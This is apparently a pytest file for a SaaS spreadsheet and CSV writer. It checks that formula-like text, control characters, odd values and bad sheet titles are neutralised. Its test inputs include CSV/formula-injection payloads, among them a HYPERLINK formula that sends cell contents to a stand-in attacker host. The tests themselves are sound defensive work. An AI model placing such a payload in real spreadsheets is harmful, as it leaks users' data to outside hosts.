"""The shared spreadsheet writer: text is text (never a formula), control characters go,
numbers and dates stay typed; the CSV twin neutralises the same way."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io

from openpyxl import load_workbook

from dealer_saas import xlsx

FORMULAS = ('=HYPERLINK("http://evil.example/?"&B2,"click")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1")


def _read(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [list(row) for row in workbook.worksheets[0].iter_rows()]


def test_text_that_looks_like_a_formula_is_written_as_text():
    rows = _read(xlsx.xlsx_bytes([["名字"], *([f] for f in FORMULAS)], title="客户"))
    cells = [cell for row in rows for cell in row]
    assert all(cell.data_type == "s" for cell in cells)
    assert [c.value for c in cells[1:]] == ["'" + f.replace("\r", "\n") for f in FORMULAS]


def test_control_characters_go_and_typed_values_stay_typed():
    when = dt.datetime(2026, 5, 1, 9, 30, tzinfo=dt.UTC)
    row = [
        "a\x00b\x01c\x1b",
        "第一行\n第二行\x0b",
        12,
        decimal.Decimal("12.50"),
        dt.date(2026, 2, 28),
        when,
        None,
        True,
    ]
    (cells,) = _read(xlsx.xlsx_bytes([row]))
    values = [c.value for c in cells]
    assert values[:2] == ["abc", "第一行\n第二行"]
    assert values[2] == 12 and values[3] == 12.5 and cells[3].data_type == "n"
    assert values[4] == dt.datetime(2026, 2, 28) and values[5] == dt.datetime(2026, 5, 1, 9, 30)
    assert values[6] is None and values[7] is True


def test_odd_values_become_safe_text():
    class Lazy:
        def __str__(self):
            return "=1+2"

    (cells,) = _read(xlsx.xlsx_bytes([[float("nan"), decimal.Decimal("Infinity"), Lazy(), "x" * 40_000]]))
    assert [c.value for c in cells[:3]] == ["nan", "Infinity", "'=1+2"]
    assert len(cells[3].value) == xlsx.MAX_CELL_TEXT
    assert all(c.data_type == "s" for c in cells)


def test_a_bad_sheet_title_is_cleaned():
    workbook = load_workbook(io.BytesIO(xlsx.xlsx_bytes([[1]], title="=客户/[导出]:*?" + "长" * 40)))
    title = workbook.worksheets[0].title
    assert not title.startswith("'") and len(title) <= 31 and not set("/[]:*?") & set(title)


def test_csv_neutralises_the_same_way():
    content = xlsx.csv_bytes([["姓名", "金额"], [FORMULAS[0], decimal.Decimal("9.90")], ["a\x00b", None]])
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["姓名", "金额"], ["'" + FORMULAS[0], "9.90"], ["ab", ""]]
